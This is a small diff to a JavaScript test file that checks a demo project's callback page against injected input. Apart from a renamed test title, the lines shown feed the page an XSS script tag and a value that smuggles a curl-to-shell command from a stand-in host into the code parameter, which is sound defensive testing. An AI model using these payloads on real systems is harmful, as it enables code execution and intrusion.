@@ -22,7 +22,7 @@ describe('the callback page of the demo project', () => {
     expect(headers.get('content-security-policy')).not.toContain('unsafe');
   });
 
-  it('runs nothing that somebody has put into the address', async () => {
+  it('runs no script from its address', async () => {
     expect((await open('?code=abc&state=<script>alert(1)</script>')).text).not.toContain('<script>');
     const { text } = await open("?code=';curl+evil.example|sh;'");
     expect(text).toContain('without a code');
